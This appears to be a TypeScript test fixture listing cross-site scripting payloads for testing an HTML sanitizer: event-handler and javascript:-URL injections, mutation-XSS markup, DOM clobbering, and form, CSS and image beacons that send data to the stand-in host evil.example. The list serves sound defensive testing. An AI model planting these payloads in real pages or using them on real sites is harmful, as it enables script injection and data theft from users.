const run = "alert(1)";
const evil = "https://evil.example";

/**
 * Markup that tries to run `alert(1)`, to send data to `evil.example`, or to replace a part of the
 * page: one sample for each technique in the collections of DOMPurify and OWASP.
 */
export const payloads: readonly string[] = [
  // Event handlers, in HTML, SVG and broken tags.
  `<script>${run}</script>`,
  `<img/src/onerror=${run}>`,
  `<svg/onload=${run}//`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<xss onclick=${run} tabindex=1 autofocus onfocus=${run}>x</xss>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<a title='"><img src=x onerror=${run}>'>x</a>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `"><img src=x onerror=${run}>`,
  // URLs that run scripts, disguised by characters that parsers remove.
  `<a href="java&Tab;script&colon;${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="/\\evil.example/x">x</a>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="${evil}/">`,
  // Markup that changes its meaning when it is parsed again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror=${run}><script>${run}</script></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `</script></style></textarea></title></template><img src=x onerror=${run}>`,
  // Styles, names and forms that cover, replace or send content.
  `<style>@import '${evil}/x.css'; body{background:url(${evil}/x.png)}</style>`,
  `<p style="position:fixed;inset:0;z-index:9999" class="button" hidden>x</p>`,
  `<form id="scheme" name="getElementById" action="${evil}"><input name="attributes"></form>`,
  `<button form="scheme" formaction="${evil}">x</button>`,
  `<img name="body" id="scheme" src="${evil}/beacon" srcset="${evil}/beacon 2x" alt="">`,
  // This markup is nested as deeply as a text may be.
  `${"<b>".repeat(95)}<img src=x onerror=${run}>${"</b>".repeat(95)}`,
];
